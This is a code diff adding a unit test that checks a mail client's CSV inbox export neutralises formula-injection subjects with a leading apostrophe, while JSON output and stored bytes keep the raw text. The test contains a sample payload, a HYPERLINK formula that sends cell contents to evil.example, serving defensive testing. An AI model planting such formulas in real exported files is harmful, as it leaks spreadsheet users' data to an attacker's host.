@@ -111,6 +111,28 @@ class FetchTest(MailTestCase):
         self.assertIn("Café", shown["text"])
         self.assert_stored_exactly(raws)  # decoded for reading, stored as received
 
+    def test_formula_subjects_are_text_in_the_csv(self):
+        """A sender chooses the subject: in the inbox CSV a cell that a
+        spreadsheet would run as a formula starts with an apostrophe; the
+        JSON and the stored bytes keep it as sent."""
+        import csv
+        import io
+        hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+        raws = [f"From: x@example.com\r\nSubject: {hostile}\r\n\r\nhi\r\n".encode(),
+                b"From: @attacker <a@example.com>\r\nSubject: -1+1\r\n\r\nhi\r\n"]
+        self.deliver(raws)
+        self.account("csv", "imap", "none")
+        self.fetch("csv")
+        self.assertEqual(sorted(m["subject"] for m in self.inbox()), sorted([hostile, "-1+1"]))
+        out = subprocess.run([BIN, "--data", self.data, "inbox", "list", "--format", "csv"],
+                             capture_output=True, text=True, check=True, timeout=60).stdout
+        rows = list(csv.reader(io.StringIO(out, newline="")))
+        subject = rows[0].index("Subject")
+        self.assertEqual(sorted(r[subject] for r in rows[1:]), sorted(["'" + hostile, "'-1+1"]))
+        for row in rows[1:]:
+            self.assertFalse(any(cell[:1] in ("=", "+", "-", "@") for cell in row), row)
+        self.assert_stored_exactly(raws)
+
     def test_large_attachment(self):
         payload = os.urandom(20 * 1024 * 1024)
         encoded = base64.encodebytes(payload).replace(b"\n", b"\r\n")
